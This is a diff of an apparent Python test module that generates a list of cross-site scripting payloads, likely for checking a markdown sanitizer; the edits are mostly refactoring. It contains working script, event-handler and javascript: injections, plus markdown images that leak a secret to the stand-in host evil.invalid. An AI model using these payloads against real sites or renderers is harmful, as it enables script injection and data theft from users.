@@ -6,11 +6,11 @@ Each calls `alert(...)` or points at `evil.invalid` when it succeeds.
 from itertools import product
 
 _CALL = "alert(1)"
-_TAGS = (
-    "img svg body iframe video audio input details object embed marquee form button"
-    " select textarea style math a div table x".split()
-)
-_EVENTS = "onload onerror onclick onfocus onmouseover ontoggle onanimationstart".split()
+_TAGS = """
+img svg body iframe video audio input details object embed marquee form button select
+textarea style math a div table x
+"""
+_EVENTS = "load error click focus mouseover toggle animationstart"
 _SCHEMES = [
     "javascript:alert(1)",
     "JaVaScRiPt:alert(1)",
@@ -148,7 +148,7 @@ _RAW = [
     "\x00<script>alert(1)</script>",
 ]
 _MARKDOWN = [
-    "![x](x\"onerror=\"alert(1))",
+    '![x](x"onerror="alert(1))',
     '![x](https://evil.invalid/x.png "title" onerror="alert(1)")',
     "![secret](https://evil.invalid/leak?q=secret)",
     "![x][ref]\n\n[ref]: https://evil.invalid/leak",
@@ -156,24 +156,24 @@ _MARKDOWN = [
     "[![x](https://evil.invalid/a.png)](javascript:alert(1))",
     '[x](https://ok.invalid "onclick=alert(1)")',
     "[x](<javascript:alert(1)>)",
-    "[x](https://ok.invalid\" onmouseover=\"alert(1))",
+    '[x](https://ok.invalid" onmouseover="alert(1))',
     "[x](https://ok.invalid' onmouseover='alert(1))",
     "[x](https://ok.invalid`onmouseover=`alert(1))",
     "[x](  javascript:alert(1))",
     "[x\n](javascript:alert(1))",
     "[<script>alert(1)</script>](https://ok.invalid)",
     "[<img src=x onerror=alert(1)>](https://ok.invalid)",
-    "<https://ok.invalid/\"onclick=alert(1)>",
+    '<https://ok.invalid/"onclick=alert(1)>',
     "<https://ok.invalid/<script>alert(1)</script>>",
     "`<script>alert(1)</script>`",
-    "``` \" onload=alert(1)\nx\n```",
+    '``` " onload=alert(1)\nx\n```',
     "```html\n<script>alert(1)</script>\n```",
-    "```\"><script>alert(1)</script>\nx\n```",
+    '```"><script>alert(1)</script>\nx\n```',
     "```</code></pre><img src=x onerror=alert(1)>\nx\n```",
     "~~~svg\n<svg onload=alert(1)>\n~~~",
     "    <script>alert(1)</script>",
-    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
-    "| a |\n|:-:\" onclick=alert(1)|\n| b |",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | y |",
+    '| a |\n|:-:" onclick=alert(1)|\n| b |',
     "# <script>alert(1)</script>",
     "> <script>alert(1)</script>",
     "- <script>alert(1)</script>",
@@ -186,13 +186,13 @@ _MARKDOWN = [
     "[x](https://evil.invalid){onclick=alert(1)}",
     "[x]{.message style='position:fixed'}",
     "$$\\href{javascript:alert(1)}{x}$$",
-    "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```",
+    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
     "[^1]: <script>alert(1)</script>",
     "*[HTML]: <script>alert(1)</script>",
 ]
 _HANDLERS = [
-    f"<{tag} src=x {event}={_CALL} autofocus tabindex=0>x</{tag}>"
-    for tag, event in product(_TAGS, _EVENTS)
+    f"<{tag} src=x on{event}={_CALL} autofocus tabindex=0>x</{tag}>"
+    for tag, event in product(_TAGS.split(), _EVENTS.split())
 ]
 _LINKS = [
     form.format(url)
@@ -204,7 +204,14 @@ _POSITIONS = [
     form.format(raw)
     for raw, form in product(
         _RAW[:12] + _RAW[20:34],
-        ("text {} text", "> {}", "- {0}\n- {0}", "```\n{}\n```", "a|b\n-|-\n{}|x", "# {}"),
+        (
+            "text {} text",
+            "> {}",
+            "- {0}\n- {0}",
+            "```\n{}\n```",
+            "a|b\n-|-\n{}|x",
+            "# {}",
+        ),
     )
 ]
 PAYLOADS = list(dict.fromkeys(_RAW + _MARKDOWN + _HANDLERS + _LINKS + _POSITIONS))
